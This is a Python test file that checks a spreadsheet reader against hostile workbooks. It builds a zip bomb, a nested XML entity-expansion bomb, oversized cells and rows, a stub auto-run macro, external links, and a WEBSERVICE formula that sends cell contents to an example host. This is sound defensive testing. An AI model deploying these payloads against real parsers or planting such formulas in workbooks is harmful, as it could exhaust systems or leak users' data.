"""A hostile workbook costs little, runs nothing, and has one clear problem if it has any."""

import time
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
import xlsxwriter

from interagency.document import InvalidDocument, loads, read_text
from interagency.document.workbook.writer import write_workbook
from tests.document.workbook.workbooks import small

GROUPS = "xl/worksheets/sheet2.xml"
_SECONDS = 20


def repacked(change: Callable[[dict[str, bytes]], object]) -> bytes:
    """Return the small workbook with its parts changed."""
    with ZipFile(BytesIO(write_workbook(small()))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_part(name: str, data: bytes) -> bytes:
    """Return the small workbook with one part replaced."""
    return repacked(lambda parts: parts.update({name: data}))


def problems(data: bytes) -> list[str]:
    start = time.perf_counter()
    try:
        read_text(data, file="r.xlsx").architecture()
        found = []
    except InvalidDocument as error:
        found = [str(each) for each in error.problems]
    assert time.perf_counter() - start < _SECONDS
    return found


def sheet(parts: dict[str, bytes], old: bytes, new: bytes) -> None:
    assert old in parts[GROUPS]
    parts[GROUPS] = parts[GROUPS].replace(old, new, 1)


def test_styles_that_are_broken_are_one_problem() -> None:
    for styles in (b"<styleSheet", b"", b"\xff\xfe nothing"):
        found = problems(with_part("xl/styles.xml", styles))
        assert len(found) <= 1
        assert all("r.xlsx: is broken, and cannot be read" in each for each in found)


def test_a_part_that_is_missing_or_no_xml_is_one_problem() -> None:
    for name in (GROUPS, "xl/workbook.xml", "xl/sharedStrings.xml"):
        (found,) = problems(with_part(name, b"<a"))
        assert found.startswith("r.xlsx: ")
        assert "\n" not in found


def test_a_million_empty_columns_and_rows_are_passed_over() -> None:
    def widen(parts: dict[str, bytes]) -> None:
        columns = b"".join(b'<col min="%d" max="%d" width="9"/>' % (n, n) for n in range(1, 16_385))
        sheet(parts, b"<cols>", b"<cols>" + columns)
        last = b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
        sheet(parts, b"</sheetData>", last)

    assert loads(repacked(widen)) == small()


def test_a_cell_of_ten_megabytes_is_one_problem() -> None:
    huge = b'<c r="ZZ1" t="inlineStr"><is><t>%s</t></is></c></row>' % (b"x" * 10_000_000)
    found = problems(repacked(lambda parts: sheet(parts, b"</row>", huge)))
    assert len(found) <= 1
    assert all(len(each) < 400 for each in found)


def test_a_bomb_is_not_unpacked() -> None:
    def fill(parts: dict[str, bytes]) -> None:
        parts["xl/media/image1.png"] = b"0" * 600_000_000

    data = repacked(fill)
    assert len(data) < 5_000_000
    (found,) = problems(data)
    assert found == "r.xlsx: unpacks to more than 500,000,000 bytes"


def test_of_a_formula_the_saved_value_is_read_and_nothing_is_computed() -> None:
    out = BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        start = book.add_worksheet("Start")
        for row, cells in enumerate((("Field", "Value"), ("Interagency", "2"))):
            start.write_row(row, 0, cells)
        groups = book.add_worksheet("Groups")
        groups.write_row(0, 0, ("Type", "Name"))
        groups.write_string(1, 0, "Sector")
        groups.write_formula(1, 1, '=WEBSERVICE("https://example.org/"&A1)', None, "Health")
    assert [each.name for each in loads(out.getvalue()).bodies] == ["Health"]


def test_macros_and_links_to_other_workbooks_are_left_alone() -> None:
    def add(parts: dict[str, bytes]) -> None:
        parts["xl/vbaProject.bin"] = zlib.compress(b"Sub Auto_Open()")
        link = b'<externalLink xmlns="x"><externalBook r:id="rId1"/></externalLink>'
        parts["xl/externalLinks/externalLink1.xml"] = link
        parts["xl/connections.xml"] = (
            b'<connections><connection url="https://example.org"/></connections>'
        )

    assert loads(repacked(add)) == small()


def test_an_entity_that_grows_is_not_expanded() -> None:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9))
    head = b'<!DOCTYPE x [<!ENTITY a0 "lol">' + entities + b"]>"

    def bomb(parts: dict[str, bytes]) -> None:
        sheet(parts, b"<worksheet", head + b"<worksheet")
        sheet(parts, b"</row>", b'<c r="ZZ1" t="inlineStr"><is><t>&a8;</t></is></c></row>')

    assert all(len(each) < 400 for each in problems(repacked(bomb)))


@pytest.mark.parametrize("size", [0, 1, 100, 5_000])
def test_a_workbook_that_is_cut_off_is_one_problem(size: int) -> None:
    (found,) = problems(b"PK\3\4" + write_workbook(small())[4:size])
    assert found.startswith("r.xlsx: is damaged")
